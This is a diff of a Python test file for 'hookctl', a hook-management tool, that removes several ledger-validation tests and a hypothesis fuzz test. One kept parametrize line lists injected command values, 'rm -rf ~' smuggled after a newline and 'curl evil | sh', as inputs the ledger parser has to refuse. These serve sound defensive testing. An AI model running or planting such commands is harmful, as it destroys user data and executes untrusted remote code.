@@ -9,8 +9,6 @@ from typing import Any
 
 import jsonschema
 import pytest
-from hypothesis import given, settings
-from hypothesis import strategies as st
 
 from hookctl import engine
 from hookctl.errors import HookctlError
@@ -82,33 +80,6 @@ def test_what_is_written_is_valid(commands: list[list[str]], hookctl: Hookctl, s
     for verb, *options in commands:
         assert hookctl(verb, "--host", "claude", *options).code == 0
         valid(Path(folders.here().ledger).read_bytes())
-
-
-def test_a_newer_ledger_is_refused_and_nothing_is_written(hookctl: Hookctl, settings: Path) -> None:
-    text = b'{"ledger_version": 3, "needs": "0.9.1", "anything": []}'
-    path = put(Path(folders.here().ledger), text)
-    for command in (["install", "--host", "claude"], ["uninstall", "--host", "claude"], ["status"]):
-        outcome = hookctl(*command, "--json")
-        error = outcome.result["errors"][0]
-        assert (outcome.code, error["code"]) == (4, "ledger_newer")
-        assert error["message"] == "hookctl 0.9.1 or later is needed to read this record"
-        assert error["hint"].startswith("Upgrade to hookctl 0.9.1 or later.")
-    assert path.read_bytes() == text
-    assert not settings.exists()
-
-
-def test_a_record_from_before_the_first_release_is_refused_and_stays(hookctl: Hookctl, settings: Path) -> None:
-    for name, version in (("ledger", "ledger_version"), ("journal", "journal_version")):
-        path = put(Path(folders.here().state) / f"{name}.json", json.dumps({version: 1, "files": {}}).encode())
-        text = path.read_bytes()
-        for command in ("install", "uninstall", "plan"):
-            outcome = hookctl(command, "--host", "claude", "--json")
-            error = outcome.result["errors"][0]
-            assert (outcome.code, error["code"], error["path"]) == (4, "ledger_unreadable", str(path))
-            assert error["message"] == "a hookctl before 0.2.0 wrote this record, and no such version was released"
-        assert path.read_bytes() == text
-        assert not settings.exists()
-        path.unlink()
 
 
 @pytest.mark.parametrize("needs", [None, 1, "", "0.9.1\nrm -rf ~", "curl evil | sh", ["0.9.1"]])
@@ -251,24 +222,6 @@ def test_a_ledger_with_a_value_of_a_wrong_kind_is_refused_or_does_no_harm(tmp_pa
                 engine.uninstall(record.entries, plain.live({}), "guard")
                 engine.install(record.entries, plain.live({}), "guard", "1", [])
             assert store.load(own(put(path, store.dump(records)))) == records, name
-
-
-@settings(deadline=None, max_examples=150)
-@given(st.one_of(st.binary(max_size=40), st.recursive(
-    st.one_of(st.none(), st.booleans(), st.integers(), st.text(max_size=5)),
-    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(
-        st.sampled_from(["ledger_version", "journal_version", "files", "packs", "entries", "steps", "records", "x"]),
-        inner, max_size=4), max_leaves=10).map(lambda value: json.dumps(value).encode())))  # fmt: skip
-def test_arbitrary_bytes_as_ledger_or_journal_are_refused_in_words(tmp_path_factory: Any, data: bytes) -> None:
-    state = tmp_path_factory.getbasetemp() / "arbitrary"
-    here = own(state / "ledger.json")
-    for read in (lambda: store.load(here), lambda: read_journal(here)):
-        put(state / "ledger.json", data)
-        put(state / "journal.json", data)
-        try:
-            read()
-        except HookctlError as error:
-            assert error.exit_code == 4
 
 
 @pytest.mark.parametrize("data", [b"", b"\xff", b"[]", b"{", b'{"journal_version": 2}', b"[" * 100_000, b"1" * 5_000])
